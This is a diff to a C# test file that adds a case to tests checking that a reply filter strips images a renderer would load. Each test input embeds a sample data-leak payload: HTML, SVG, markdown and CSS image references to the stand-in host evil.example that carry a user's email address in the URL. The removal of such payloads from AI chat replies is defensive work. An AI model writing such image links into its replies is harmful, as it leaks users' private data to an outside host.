@@ -52,6 +52,7 @@ public sealed class ReplyGuardTests
     [InlineData("x <table background=\"https://evil.example/p.png?d=alice.w@corp.example\"> y", "x <table background=\"\"> y")]
     [InlineData("x <svg><image href=\"https://evil.example/p.png?d=alice.w@corp.example\"/></svg> y", "x <svg><image href=\"\"/></svg> y")]
     [InlineData("x\n> [1]: https://evil.example/p.png?d=alice.w@corp.example\n> ![a][1]", "x\n> [1]: #image-removed\n> ![a][1]")]
+    [InlineData("x <div style=\"background-image: url('https://evil.example/p.png?d=alice.w@corp.example')\">y</div>", "x <div style=\"\">y</div>")]
     public async Task ImageWrittenAsARendererReadsIt_IsRemoved(string reply, string shown)
     {
         var (guard, session, _) = await AfterProfileAndPage();
